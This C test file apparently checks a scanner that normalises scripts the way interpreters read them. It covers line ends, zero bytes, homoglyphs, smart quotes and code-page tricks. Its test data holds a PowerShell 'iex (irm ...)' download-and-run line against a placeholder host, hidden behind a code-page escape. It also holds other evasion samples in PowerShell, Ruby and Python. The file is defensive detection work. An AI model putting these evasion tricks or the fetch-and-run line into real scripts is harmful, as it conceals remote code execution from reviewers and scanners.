/* Scripts as what runs them takes their bytes: line ends, zero bytes, quotes of print, wide letters, code pages. */
#include "read/member.h"

#include "read/script.h"

static void code(const char *path, enum language lang, struct str text, const char *want)
{
	struct arena a;
	struct str s;

	arena_init(&a, 0);
	s = script_code(&a, str_of(path), lang, script_lines(&a, lang, text));
	if (!str_is(s, want))
		fail_msg("\"%.*s\", wanted \"%s\"", STR_ARG(s), want);
	arena_release(&a);
}

static void line_ends(void **state)
{
	code("a.py", LANGUAGE_PYTHON, STR("# a\rimport os\r\n"), "# a\nimport os\r\n");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("# a\rb"), "# a\nb");
	code("a.php", LANGUAGE_PHP, STR("<?php // a\rb();"), "      // a\nb();");
	code("a.sh", LANGUAGE_SHELL, STR("# a\rb"), "# a\rb"); /* to a shell it is a letter like others */
	code("a.rb", LANGUAGE_RUBY, STR("# a\rb"), "# a\rb");
	(void)state;
}

static void zero_bytes(void **state)
{
	code("a.sh", LANGUAGE_SHELL, STR("cu\0rl \0x\ny\0"), "curl x  \ny ");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("# a\0b\niex"), "# a b\niex");
	(void)state;
}

static void comments_of_php(void **state)
{
	code("a.php", LANGUAGE_PHP, STR("<?php // a ?><?php b();"), "           ;       b();");
	code("a.php", LANGUAGE_PHP, STR("<?php # a ?>x<?= b() ?>\nc"), "          ;      b() ; \n ");
	code("a.php", LANGUAGE_PHP, STR("<?php # a\nb(); // c"), "      //a\nb(); // c");
	(void)state;
}

static void letters_of_python(void **state)
{
	code("a.py", LANGUAGE_PYTHON, STR("import \xef\xbd\x8fs\n"), "import os  \n");
	code("a.py", LANGUAGE_PYTHON, STR("\xf0\x9d\x90\x9exec(a)"), "exec   (a)");
	code("a.py", LANGUAGE_PYTHON, STR("n\xc3\xa4me = '\xef\xbd\x8f' # \xef\xbd\x8f"), "n\xc3\xa4me = '\xef\xbd\x8f' # \xef\xbd\x8f");
	(void)state;
}

/* Each mark of print takes three bytes. */
static void marks_of_powershell(void **state)
{
	code("a.ps1", LANGUAGE_POWERSHELL, STR("f(\xe2\x80\x98" "a\xe2\x80\x99)"), "f(  'a'  )");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("'a\xe2\x80\x99; b"), "'a'  ; b");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("\"\xe2\x80\x98 \xe2\x80\x9d; b"), "\"\xe2\x80\x98 \"  ; b");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("'it''s \xe2\x80\x99\xe2\x80\x99 so'"), "'it''s   ''   so'");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("f \xe2\x80\x93" "enc a \xe2\x80\x93 b"), "f -enc   a   - b");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("Invoke\xe2\x80\x93" "Thing"), "Invoke-Thing  ");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("f\xc2\xa0" "a # \xe2\x80\x99\n'\xc2\xa0'"), "f  a # \xe2\x80\x99\n'\xc2\xa0'");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("<# \xe2\x80\x9c #> f \xe2\x80\x9c" "a\""), "<# \xe2\x80\x9c #> f   \"a\"");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("@\xe2\x80\x9c\na\"\n\xe2\x80\x9d@; b"), "@\"  \na\"\n\"@  ; b");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("\"`\xe2\x80\x9d \xe2\x80\x9d"), "\"`\xe2\x80\x9d \"  ");
	code("a.ps1", LANGUAGE_POWERSHELL, STR("f \x91" "a\x92 \x96" "b\xa0" "c"), "f 'a' -b c"); /* no UTF-8: Windows-1252 */
	(void)state;
}

/* old: STR_NONE without. */
static bool says(const char *path, struct str old, struct str text, const char *key)
{
	struct member *m = member_make(path, old, text);
	bool found;

	(void)!read_member(&m->in);
	found = member_find(m, FACT_OBFUSCATED, key) != NULL;
	member_free(m);
	return found;
}

static void code_pages(void **state)
{
	/* U+0412 is D0 92: the second byte ends the literal in Windows-1252. */
	struct str hides = STR("Write-Host '\xd0\x92; iex (irm \"https://a.example/x\") #'\n");

	assert_true(says("a.ps1", STR("Write-Host 'a'\n"), hides, "code-page"));
	assert_true(says("a.ps1", STR_NONE, hides, "code-page"));
	assert_false(says("a.ps1", hides, STR("Write-Host '\xd0\x92; iex (irm \"https://a.example/y\") #'\n"), "code-page"));
	assert_false(says("a.ps1", STR("a\n"), STR("Write-Host '\xd0\x92\xd0\xb5\xd1\x80\xd1\x81\xd0\xb8\xd1\x8f https://a.example/'\n"), "code-page"));
	assert_false(says("a.ps1", STR("a\n"), STR("Write-Host 'iex'; iex (irm https://a.example/x) # '\xd0\x92'\n"), "code-page"));
	assert_false(says("a.ps1", STR("a\n"), STR("\xef\xbb\xbfWrite-Host '\xd0\x92; iex (irm https://a.example/x) #'\n"), "code-page"));
	assert_true(says("a.rb", STR("a\n"), STR("# encoding: windows-31j\nx = '\x83\\'; b #'\n"), "coding-cookie"));
	assert_false(says("a.rb", STR("a\n"), STR("# encoding: utf-8\nb\n"), "coding-cookie"));
	(void)state;
}

/* A mark of UTF-16 in front of bytes that are none: shells read on. */
static void mark_that_lies(void **state)
{
	struct arena a;
	struct str s;
	size_t shift;

	arena_init(&a, 0);
	assert_true(read_text(&a, cursor_of("\xff\xfe&cls\r\necho this and that\r\n", 28), &s, &shift));
	assert_string_equal(arena_printf(&a, "%.*s", STR_ARG(s)).p, "\xff\xfe&cls\r\necho this and that\r\n");
	assert_true(read_text(&a, cursor_of("\xff\xfe" "a\0b\0", 6), &s, &shift));
	assert_true(str_is(s, "ab"));
	assert_true(read_text(&a, cursor_of("\xff\xfe\x2d\x4e\x87\x65", 6), &s, &shift)); /* Chinese: bytes of ASCII, too, but few */
	assert_true(str_is(s, "\xe4\xb8\xad\xe6\x96\x87"));
	arena_release(&a);
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(line_ends),
		cmocka_unit_test(zero_bytes),
		cmocka_unit_test(comments_of_php),
		cmocka_unit_test(letters_of_python),
		cmocka_unit_test(marks_of_powershell),
		cmocka_unit_test(code_pages),
		cmocka_unit_test(mark_that_lies),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
